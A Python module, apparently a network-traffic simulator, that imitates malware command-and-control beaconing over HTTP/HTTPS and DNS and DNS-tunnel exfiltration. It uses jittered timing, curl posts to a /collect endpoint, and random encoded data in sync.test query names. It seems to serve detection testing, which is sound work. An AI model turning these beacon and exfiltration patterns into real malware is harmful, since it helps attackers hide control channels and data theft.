"""Command and control that calls home over HTTP, HTTPS and DNS, and data carried out in DNS names."""

import socket
import subprocess
import time

from .sockets import connect_web, dns_query, encoded, exchange, family_of

OUTPUT = ["--silent", "--insecure", "--output", "/dev/null", "--max-time", "10"]


def wait(task):
    """The period of the beacon, with its jitter, or what remains of the activity."""
    period, jitter = task.settings["period"], task.settings["jitter"]
    time.sleep(max(0.0, min(period * (1 + task.rng.uniform(-jitter, jitter)), task.deadline - time.monotonic())))


def call_home(task):
    """One new connection with curl: asks for a task, sometimes reports something."""
    host = f"[{task.target}]" if ":" in task.target else task.target
    scheme = "https" if task.rng.random() < task.settings["tls"] else "http"
    command = ["curl", *OUTPUT, "--local-port", str(task.block.take())]
    if task.rng.random() < 0.4:
        command += ["--data-binary", encoded(task.rng, task.rng.randrange(30, 1_500)), f"{scheme}://{host}/collect"]
    else:
        command += [f"{scheme}://{host}/api/{task.rng.randrange(12)}.json?id={task.rng.getrandbits(64):x}"]
    subprocess.run(command, check=False, timeout=15)


def stay_connected(task):
    """One connection held over several periods, with a small request in each."""
    try:
        connection = connect_web(task.target, task.rng.random() < task.settings["tls"], task.block)
        sock = connection.sock
        for _ in range(task.rng.randint(2, 6)):
            connection.request("POST", "/collect", body=task.rng.randbytes(task.rng.randrange(20, 300)))
            connection.getresponse().read()
            if task.over():
                break
            wait(task)
        sock.close()
    except (OSError, ValueError):
        pass  # The server closed an idle connection; a beacon tries again.


def beacon_web(task):
    """Calls home once a period, over new connections and held ones."""
    made = 0
    while not task.over():
        made += 1
        if task.rng.random() < task.settings["held"]:
            stay_connected(task)
        else:
            call_home(task)
        wait(task)
    return {"tool": "web beacon", "protocol": "tcp", "destination_ports": [80, 443], "flows": made}


def beacon_dns(task):
    """Asks for a task once a period in a TXT or address query, with a second query when there is something to say."""
    made = 0
    while not task.over():
        made += 1
        with socket.socket(family_of(task.target), socket.SOCK_DGRAM) as sock:
            task.block.bind(sock)
            sock.connect((task.target, 53))
            kind = task.rng.choice(("TXT", "TXT", "A"))
            exchange(sock, dns_query(f"task{task.rng.randrange(8)}.sync.test", kind, task.rng))
            if task.rng.random() < 0.3:
                exchange(sock, dns_query(f"{encoded(task.rng, task.rng.randrange(8, 24))}.sync.test", "A", task.rng))
        wait(task)
    return {"tool": "DNS beacon", "protocol": "udp", "destination_ports": [53], "flows": made}


def dns_exfiltration(task):
    """Names full of encoded data, some sockets for one query and some for many."""
    made = 0
    for _ in range(task.settings["sockets"]):
        if task.over():
            break
        made += 1
        with socket.socket(family_of(task.target), socket.SOCK_DGRAM) as sock:
            task.block.bind(sock)
            sock.connect((task.target, 53))
            size = task.rng.randrange(12, 39)
            for _ in range(1 + int(task.rng.expovariate(1 / task.settings["queries"]))):
                name = ".".join(encoded(task.rng, size) for _ in range(task.rng.randint(1, 3)))
                exchange(sock, dns_query(f"{name}.sync.test", task.rng.choice(("A", "TXT")), task.rng))
                time.sleep(task.rng.expovariate(1 / 0.03))
        time.sleep(task.rng.expovariate(1 / task.settings["pause"]))
    return {"tool": "DNS exfiltration", "protocol": "udp", "destination_ports": [53], "flows": made}
